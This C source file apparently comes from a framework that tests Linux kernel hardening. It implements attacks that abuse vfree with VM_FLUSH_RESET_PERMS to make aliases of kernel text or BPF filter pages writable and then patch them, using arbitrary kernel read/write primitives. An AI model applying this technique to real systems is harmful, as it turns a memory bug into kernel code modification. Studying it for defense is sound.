// SPDX-License-Identifier: GPL-2.0-only
/*
 * Attacks by way of functions that change permissions: they believe ordinary
 * data about what they are to change.
 */
#include "attack.h"
#include "filter.h"
#include "list.h"
#include "objects.h"

/* struct vm_struct, and struct vmap_area from its node in a tree */
#define VM_ADDR			8
#define VM_FLAGS		24
#define VM_PAGES		32
#define VM_FLUSH_RESET_PERMS	0x100UL
#define AREA_START		(-16)
#define AREA_END		(-8)
#define NODE_RIGHT		8
#define NODE_LEFT		16
#define NODE_VM			40
#define NODES_SIZE		16384	/* of the kernel's trees, at most */
#define MAX_DEPTH		40

static bool is_area(uint64_t start, uint64_t end)
{
	return is_kernel_address(start) && start < end && !(start % PAGE_SIZE) && !(end % PAGE_SIZE);
}

/* The vm_struct of an address, from a node that may be one of a tree of areas. */
static uint64_t search_tree(uint64_t node, uint64_t addr)
{
	uint64_t start, end;
	int depth;

	for (depth = 0; depth < MAX_DEPTH && is_kernel_address(node); depth++) {
		start = kread64(node + AREA_START);
		end = kread64(node + AREA_END);
		if (!is_area(start, end))
			return 0;
		if (addr >= start && addr < end)
			return kread64(node + NODE_VM);
		node = kread64(node + (addr < start ? NODE_LEFT : NODE_RIGHT));
	}
	return 0;
}

static uint64_t find_vm(uint64_t addr)
{
	uint64_t nodes = kread64(ksymbol("vmap_nodes")), vm, at;

	for (at = nodes; at < nodes + NODES_SIZE; at += sizeof(at)) {
		vm = search_tree(kread64(at), addr);
		if (is_kernel_address(vm) && kread64(vm + VM_ADDR) == addr)
			return vm;
	}
	return 0;
}

/* A driver's area is released: the aliases of its pages become as all others. */
static int reset_permissions_of(uint64_t page)
{
	uint64_t area, vm;
	int err;

	if (corrupt_command("vmalloc count=1"))
		return -1;
	area = corrupt_answer("address");
	vm = find_vm(area);
	if (!vm)
		return -1;
	err = add_reference(page, 1);
	err = err ?: kwrite64(kread64(vm + VM_PAGES), page);
	err = err ?: kwrite64(vm + VM_FLAGS, kread64(vm + VM_FLAGS) | VM_FLUSH_RESET_PERMS);
	return err ?: corrupt_command("vfree");
}

enum outcome vfree_text_alias(void)
{
	struct slot text;
	int err;

	if (kwalk(text_address(), LEAF, 0, &text))
		return broken("kernel text is not mapped");
	err = reset_permissions_of(text.page);
	if (err)
		return broken("no area to be released: %d", err);
	return patch_text_through(text.alias);
}

enum outcome vfree_filter_alias(void)
{
	struct filter filter;
	int err;

	if (!filter_open(&filter))
		return broken("no compiled filter");
	err = reset_permissions_of(filter.page);
	if (err)
		return broken("no area to be released: %d", err);
	err = kwrite(filter.alias, &filter.patched, sizeof(filter.patched));
	return filter_judge(&filter, err);
}
